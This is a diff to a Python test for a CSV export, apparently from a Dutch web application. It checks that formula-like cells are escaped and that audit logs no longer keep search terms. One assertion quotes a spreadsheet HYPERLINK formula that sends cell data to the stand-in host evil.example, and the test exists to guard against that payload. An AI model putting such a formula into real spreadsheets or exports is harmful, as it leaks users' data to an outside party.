@@ -80,7 +80,8 @@ def test_csv_export_shows_formulas_as_text_and_is_recorded(client, staff_user, d
     assert row[0] == "'" + '=HYPERLINK("http://evil.example/?x="&C2,"Klik")'
     assert row[1] == "'+31 6" and row[7] == "'@Werkgever"
     event = AuditEvent.objects.get(action="ambassadors.exported")
-    assert event.actor == staff_user and event.details["rows"] == 1 and event.details["filters"] == {"q": "x@example.nl"}
+    assert event.actor == staff_user and event.details["rows"] == 1
+    assert event.details["filters"] == {"q": "…"}  # what was typed into the search is not kept
 
 
 def test_channel_report_and_education_share(client, staff_user):
